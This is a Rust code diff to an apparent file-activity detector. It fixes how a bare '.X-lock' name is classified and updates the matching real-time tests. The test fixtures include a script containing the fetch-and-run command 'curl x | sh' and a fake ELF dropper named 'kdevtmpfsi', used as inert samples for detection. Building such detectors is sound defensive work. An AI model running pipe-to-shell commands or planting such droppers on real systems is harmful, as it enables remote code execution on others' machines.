@@ -251,7 +251,8 @@ impl OddNames {
         }
         let text = name.to_string_lossy();
         // `.X0-lock` … the X server's lock files.
-        let x_lock = text.starts_with(".X")
+        let x_lock = text.len() > ".X-lock".len()
+            && text.starts_with(".X")
             && text.ends_with("-lock")
             && text[2..text.len() - 5].bytes().all(|b| b.is_ascii_digit());
         !SYSTEM_DOT_DIRS.contains(&text.as_ref()) && !x_lock
@@ -762,6 +763,7 @@ mod realtime_tests {
         std::thread::sleep(Duration::from_millis(300)); // the reader's watches
         std::fs::write(w.join("shm/.cache-x"), b"x").expect("hidden");
         std::fs::write(w.join("shm/.X0-lock"), b"1234").expect("x lock");
+        std::fs::write(w.join("shm/.X-lock"), b"x").expect("not an X lock");
         std::fs::write(w.join("home/ana/.bashrc"), b"x").expect("dotfile at home");
         let elf = w.join("shm/kdevtmpfsi");
         std::fs::write(&elf, b"\x7fELF\x02\x01\x01\0rest").expect("elf");
@@ -770,7 +772,7 @@ mod realtime_tests {
         std::fs::write(&script, b"#!/bin/sh\ncurl x | sh\n").expect("script");
         std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o700)).expect("chmod");
         std::fs::write(w.join("shm/notes.txt"), b"#!/bin/sh but not executable").expect("text");
-        let found = sweep_until(&mut s, 3);
+        let found = sweep_until(&mut s, 4);
         let kinds: BTreeSet<(String, String)> = found
             .iter()
             .map(|e| (e.kind.clone(), e.attributes["path"].clone()))
@@ -779,6 +781,7 @@ mod realtime_tests {
             kinds,
             BTreeSet::from([
                 ("file.odd_name".to_owned(), "/w/shm/.cache-x".to_owned()),
+                ("file.odd_name".to_owned(), "/w/shm/.X-lock".to_owned()),
                 (
                     "file.executable_dropped".to_owned(),
                     "/w/shm/kdevtmpfsi".to_owned()
@@ -792,7 +795,7 @@ mod realtime_tests {
         );
         let hidden = found
             .iter()
-            .find(|e| e.kind == "file.odd_name")
+            .find(|e| e.kind == "file.odd_name" && e.attributes["path"] == "/w/shm/.cache-x")
             .expect("hidden");
         assert_eq!(hidden.attributes["reason"], "hidden");
         assert_eq!(hidden.attributes["attack.technique"], "T1564.001");
